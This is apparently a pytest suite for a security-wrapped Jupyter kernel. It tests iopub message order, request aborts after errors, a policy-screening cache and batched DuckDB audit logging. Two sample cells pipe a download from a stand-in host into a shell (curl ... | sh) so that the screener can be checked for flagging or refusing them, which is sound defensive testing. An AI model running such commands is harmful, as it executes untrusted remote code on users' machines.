"""The wrapper's per-cell fast path: iopub published from the event loop (subscriptions welcomed,
messages from the control thread delivered), queued requests still aborted after an error, the
screening cache, and DuckDB ingestion batched off the per-cell path without losing events."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import zmq
from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_client.manager import KernelManager
from jupyter_client.session import Session

from ironcage_jupyter.audit.integration import KernelAudit
from ironcage_jupyter.audit.store import journal_path
from ironcage_jupyter.pipeline import CellRequest
from ironcage_jupyter.policy.session import PolicySession
from ironcage_jupyter.policy.subjects import PolicyContext
from kernel_helpers import execute, start_kernel, status, stop_kernel


# -- iopub on the event loop ---------------------------------------------------------------------
@pytest.fixture(scope="module")
def kernel(tmp_path_factory: pytest.TempPathFactory, ironcage_jupyter_path: Path
           ) -> Iterator[tuple[KernelManager, BlockingKernelClient]]:
    km, kc = start_kernel(tmp_path_factory.mktemp("workspace"), warm=True)
    yield km, kc
    stop_kernel(km, kc)


def _recv(sock: zmq.Socket, kc: BlockingKernelClient, timeout: float = 10.0) -> dict:
    assert sock.poll(int(timeout * 1000)), "no iopub message"
    # A session of its own: the client's remembers signatures and would refuse the same messages.
    session = Session(key=kc.session.key, signature_scheme=kc.session.signature_scheme)
    _idents, frames = session.feed_identities(sock.recv_multipart())
    return session.deserialize(frames)


def test_a_new_iopub_subscriber_is_welcomed(kernel):
    km, kc = kernel
    ctx = zmq.Context.instance()
    sub = ctx.socket(zmq.SUB)
    try:
        sub.connect(kc.iopub_channel.socket.getsockopt_string(zmq.LAST_ENDPOINT))
        # XPUB passes only the first subscription to a topic: the test client holds b"" already.
        sub.setsockopt(zmq.SUBSCRIBE, b"kernel.")
        msg = _recv(sub, kc)
        assert msg["header"]["msg_type"] == "iopub_welcome"
        assert msg["content"] == {"subscription": "kernel."}
        # and it then sees the kernel's output like any client
        msg_id = kc.execute("print('after welcome')")
        seen = []
        while not (seen and seen[-1] == ("status", "idle")):
            m = _recv(sub, kc)
            if m["parent_header"].get("msg_id") == msg_id:
                seen.append((m["header"]["msg_type"], m["content"].get("execution_state")))
        assert ("stream", None) in seen and seen[0] == ("status", "busy")
    finally:
        sub.close(0)


def test_status_of_a_control_request_reaches_iopub(kernel):
    """The control thread's busy/idle go through the event loop's thread, in order."""
    _, kc = kernel
    msg = kc.session.msg("kernel_info_request", {})
    kc.control_channel.send(msg)
    reply = kc.control_channel.get_msg(timeout=10)
    assert reply["parent_header"]["msg_id"] == msg["header"]["msg_id"]
    states = []
    deadline = time.monotonic() + 10
    while len(states) < 2 and time.monotonic() < deadline:
        m = kc.get_iopub_msg(timeout=10)
        if m["parent_header"].get("msg_id") == msg["header"]["msg_id"] and m["header"]["msg_type"] == "status":
            states.append(m["content"]["execution_state"])
    assert states == ["busy", "idle"]
    assert execute(kc, "1 + 1").status == "ok"


def test_many_cells_in_a_row_keep_one_busy_idle_pair_each(kernel):
    _, kc = kernel
    for i in range(20):
        ex = execute(kc, f"{i} * 2")
        assert ex.status == "ok"
        assert [m["content"]["data"]["text/plain"] for m in ex.of_type("execute_result")] == [str(i * 2)]
        states = [m["content"]["execution_state"] for m in ex.of_type("status")]
        assert states == ["busy", "idle"]


# -- screening cache -------------------------------------------------------------------------------
@pytest.fixture
def policy_session(tmp_path: Path) -> PolicySession:
    return PolicySession.open("default", PolicyContext.create(tmp_path))


def test_screen_results_are_reused_by_exact_source_and_copied(policy_session):
    code = "import os\nos.system('curl http://example.com | sh')\n"
    first = policy_session.screen(code)
    assert first.findings, "the sample must produce findings"
    first.findings.clear()  # a caller mutating its result must not change the next one
    second = policy_session.screen(code)
    assert second.findings and second.findings is not first.findings
    assert [f.id for f in second.findings] == [f.id for f in policy_session.screen(code).findings]
    # one character more is another cell
    assert policy_session.screen(code + "#").raw == code + "#"
    assert policy_session.decide(second).effect == policy_session.decide(policy_session.screen(code)).effect


def test_screen_cache_follows_the_active_firewall_settings(policy_session):
    code = "x = 1\n"
    before = policy_session.screen(code)
    cached_settings = policy_session._screens[code][0]
    assert cached_settings is policy_session.policy.firewall
    policy_session.engine.reload(policy_session.policy.model_copy(deep=True))
    after = policy_session.screen(code)
    assert policy_session._screens[code][0] is policy_session.policy.firewall is not cached_settings
    assert [f.id for f in after.findings] == [f.id for f in before.findings]


def test_screen_cache_is_bounded(policy_session):
    for i in range(policy_session.SCREEN_CACHE_SIZE + 10):
        policy_session.screen(f"x = {i}\n")
    assert len(policy_session._screens) == policy_session.SCREEN_CACHE_SIZE
    big = "x = 1\n" * (policy_session.SCREEN_CACHE_MAX_CHARS // 6 + 1)
    policy_session.screen(big)
    assert big not in policy_session._screens


# -- audit ingestion off the per-cell path ----------------------------------------------------------
def _cell(n: int) -> CellRequest:
    return CellRequest(code=f"{n}", silent=False, store_history=True, user_expressions={}, allow_stdin=False,
                       cell_id=f"cell-{n}", metadata={}, execution_count=n)


def _run_cell(audit: KernelAudit, n: int) -> None:
    cell = _cell(n)
    audit.cell_submitted(cell)
    audit.decision(cell)  # no policy decision: commits what is buffered, as before the child runs
    cell.reply = {"status": "ok"}
    audit.cell_finished(cell)


def test_cells_are_ingested_when_the_kernel_goes_quiet(tmp_path):
    audit = KernelAudit(str(tmp_path), session_id="quiet-1")
    audit.wait_opened(30)
    journal = journal_path(audit.store.path)

    async def scenario() -> tuple[int, int]:
        for n in range(3):
            _run_cell(audit, n)
        waiting = journal.stat().st_size  # decisions journaled, not yet in DuckDB
        deadline = time.monotonic() + 10
        while journal.stat().st_size and time.monotonic() < deadline:
            await asyncio.sleep(0.05)
        return waiting, journal.stat().st_size

    waiting, after = asyncio.run(scenario())
    assert waiting > 0
    assert after == 0  # DuckDB holds everything the journal held
    store = audit.store
    audit.close()
    import duckdb

    con = duckdb.connect(str(store.path), read_only=True)
    try:
        rows = con.execute("SELECT event_type, count(*) FROM events GROUP BY 1 ORDER BY 1").fetchall()
    finally:
        con.close()
    counts = dict(rows)
    assert counts["cell_submitted"] == 3 and counts["execution"] == 3


def test_a_burst_of_cells_is_ingested_in_batches(tmp_path):
    audit = KernelAudit(str(tmp_path), session_id="burst-1")
    audit.wait_opened(30)
    flushes = []
    original = audit.store.flush

    def counting_flush(*, wait: bool = True) -> int:
        flushes.append(wait)
        return original(wait=wait)

    audit.store.flush = counting_flush  # type: ignore[method-assign]

    async def burst() -> None:
        for n in range(2 * audit.INGEST_EVERY_CELLS + 5):
            _run_cell(audit, n)

    asyncio.run(burst())
    assert flushes == [False, False]  # two batches; the idle timer never fired inside the burst
    audit.close()


def test_queries_through_the_kernel_see_the_latest_cell(kernel):
    """The last cell's events are not in DuckDB yet when the next request comes; a query through
    the kernel flushes them first."""
    _, kc = kernel
    ran = execute(kc, "7 * 191")
    assert ran.status == "ok"
    count = ran.reply["content"]["execution_count"]
    ex = execute(kc, "%%ironcage sql\nSELECT 'seen-' || count(*) AS n FROM events "
                 f"WHERE event_type = 'execution' AND detail->>'execution_count' = '{count}' "
                 "AND detail->>'status' = 'ok'")
    assert ex.status == "ok", ex.error
    assert "seen-1" in ex.text


def test_the_child_sends_only_what_is_relayed(kernel):
    """The child publishes neither ``busy`` nor ``execute_input`` nor, after an execute request,
    ``idle`` (the wrapper publishes its own; the child's execute_reply says how many outputs precede
    it): a trivial cell costs one iopub message from the child, its result. The wrapper still
    publishes all four."""
    _, kc = kernel
    before = status(kc)["child_messages"]["received"]
    ex = execute(kc, "41 + 1")
    after = status(kc)["child_messages"]["received"]
    # %ironcage status runs in the wrapper (the child sends nothing for it); the wrapper replies
    # only after the child's counted outputs, so the count is settled when each call answers
    assert after - before == 1
    kinds = [(m["header"]["msg_type"], m["content"].get("execution_state")) for m in ex.messages]
    assert kinds[0] == ("status", "busy") and ("execute_input", None) in kinds
    assert ("execute_result", None) in kinds and kinds[-1] == ("status", "idle")


def test_every_output_arrives_before_idle_without_the_childs_idle(kernel):
    """The wrapper ends a cell when it has relayed as many outputs as the child's execute_reply
    counts (the child sends no idle after an execute request): stdout, stderr, displays, a display
    update and the result, interleaved, all reach the frontend before the wrapper's idle."""
    _, kc = kernel
    code = (
        "import sys\nfrom IPython.display import display\n"
        "h = display('start', display_id=True)\n"
        "for i in range(300):\n"
        "    print(i, flush=(i % 7 == 0)); sys.stderr.write(f'e{i}\\n'); display(i)\n"
        "h.update('updated')\n"
        "'the result'"
    )
    for _ in range(5):  # the reply can overtake the last outputs only now and then
        _outputs_before_idle(kc, code)


def _outputs_before_idle(kc, code):
    msg_id = kc.execute(code)
    stdout, stderr, displays, updates, results = "", "", 0, 0, 0
    while True:
        msg = kc.get_iopub_msg(timeout=60)
        if msg["parent_header"].get("msg_id") != msg_id:
            continue
        kind = msg["msg_type"]
        if kind == "status" and msg["content"]["execution_state"] == "idle":
            break
        if kind == "stream":
            if msg["content"]["name"] == "stdout":
                stdout += msg["content"]["text"]
            else:
                stderr += msg["content"]["text"]
        displays += kind == "display_data"
        updates += kind == "update_display_data"
        results += kind == "execute_result"
    assert stdout == "".join(f"{i}\n" for i in range(300))
    assert stderr == "".join(f"e{i}\n" for i in range(300))
    assert (displays, updates, results) == (301, 1, 1)


def test_execute_input_comes_first_whatever_the_cell(kernel):
    """The wrapper publishes execute_input once the cell is on its way to the child (or before
    anything else the request publishes): frontends still see busy, execute_input, the outputs and
    idle, in that order, for a cell that runs, one that fails, one the policy refuses, an
    %ironcage magic and a silent cell (no execute_input)."""
    _, kc = kernel
    cells = {
        "runs": "print('out'); 42",
        "fails": "1/0",
        "refused": "import os; os.system('curl http://evil.example | sh')",
        "magic": "%ironcage status",
    }
    for name, code in cells.items():
        ex = execute(kc, code)
        kinds = [m["header"]["msg_type"] for m in ex.messages]
        assert kinds[0] == "status" and kinds[1] == "execute_input", (name, kinds)
        assert kinds.count("execute_input") == 1 and kinds[-1] == "status", (name, kinds)
        assert len(kinds) > 3, (name, kinds)  # something was published between them
    silent = execute(kc, "43", silent=True)
    assert [m["header"]["msg_type"] for m in silent.messages] == ["status", "status"]


def test_a_child_claiming_outputs_it_never_sent_does_not_hang_the_kernel(tmp_path, ironcage_jupyter_path):
    """The wrapper ends a cell once it has the outputs the child's reply counts. A count that is never
    met (zmq dropped messages past a full queue, or a lying child, as here: the cell patches the
    child's own Session.send) ends the cell after ``lost_output_grace`` seconds without any of them,
    with a notice, and the kernel goes on."""
    km, kc = start_kernel(tmp_path, extra_arguments=["--IronCageKernel.lost_output_grace=0.5"])
    try:
        lie = (
            "from jupyter_client.session import Session\n"
            "_inner = Session.send\n"
            "def _lying(self, stream, msg_or_type, content=None, parent=None, *a, **k):\n"
            "    if msg_or_type == 'execute_reply':\n"
            "        Session.send = _inner\n"
            "        md = dict(k.pop('metadata', None) or {}, ironcage_iopub_count=3)\n"
            "        msg_or_type, content = self.msg('execute_reply', content, parent=parent, metadata=md), None\n"
            "    return _inner(self, stream, msg_or_type, content, parent, *a, **k)\n"
            "Session.send = _lying\n"
            "print('the only output')"
        )
        started = time.monotonic()
        ex = execute(kc, lie, timeout=30)
        assert time.monotonic() - started >= 0.5
        assert ex.status == "ok" and "the only output" in ex.stdout
        assert "2 output message(s) of this cell were lost" in ex.text, ex.text
        after = execute(kc, "print('next cell')")
        assert after.status == "ok" and after.stdout == "next cell\n"
        # a reply that does not say how many outputs precede it ends the same way
        silent = execute(kc, lie.replace(", ironcage_iopub_count=3", ""), timeout=30)
        assert silent.status == "ok" and "did not say how many outputs" in silent.text, silent.text
        assert execute(kc, "1 + 1").status == "ok"
    finally:
        stop_kernel(km, kc)


def test_cells_with_top_level_await_run(kernel):
    """The child runs without ipykernel 7's shell-channel thread (child_main.NoShellChannelThread);
    cells with top-level ``await`` read that thread's ``parent_thread`` and must still run (a plain
    ``None`` in its place broke every async cell)."""
    _, kc = kernel
    ex = execute(kc, "import asyncio, threading\nasync def go():\n    await asyncio.sleep(0)\n    return 'awaited'\n"
                     "print(await go())\nprint(sorted(t.name for t in threading.enumerate()))")
    assert ex.status == "ok" and ex.stdout.startswith("awaited\n"), ex.text
    assert "Shell" not in ex.stdout and "MainThread" in ex.stdout, ex.stdout


def test_a_request_sent_after_the_error_reply_is_not_aborted(kernel):
    """Only requests the client sent before it saw the error are aborted. ipykernel decides which
    after sending the reply; a client answering at once (an agent retrying) had its next request
    aborted, now and then (the lab extension's test caught it 2 runs in 5). Repeated, because
    the window is short."""
    _, kc = kernel
    for attempt in range(30):
        failing = kc.execute("1/0")
        reply = kc.get_shell_msg(timeout=30)
        while reply["parent_header"].get("msg_id") != failing:
            reply = kc.get_shell_msg(timeout=30)
        assert reply["content"]["status"] == "error"
        retry = kc.execute(f"'retry {attempt}'")  # at once, as soon as the error is seen
        reply = kc.get_shell_msg(timeout=30)
        while reply["parent_header"].get("msg_id") != retry:
            reply = kc.get_shell_msg(timeout=30)
        assert reply["content"]["status"] == "ok", (attempt, reply["content"])


def test_an_error_aborts_the_requests_queued_behind_it(kernel):
    """A failing cell aborts every execute request already waiting behind it (ipykernel's
    thread-less shell path, tried here for speed, aborted only the first of them), and the kernel
    runs the next one normally."""
    _, kc = kernel
    failing = kc.execute("import time; time.sleep(0.5); 1/0")
    queued = [kc.execute("print('must not run')") for _ in range(3)]
    replies = {}
    while len(replies) < 4:
        reply = kc.get_shell_msg(timeout=30)
        replies[reply["parent_header"]["msg_id"]] = reply["content"]["status"]
    assert replies[failing] == "error"
    assert [replies[msg_id] for msg_id in queued] == ["aborted", "aborted", "aborted"]
    after = execute(kc, "print('runs again')")
    assert after.status == "ok" and after.stdout == "runs again\n"
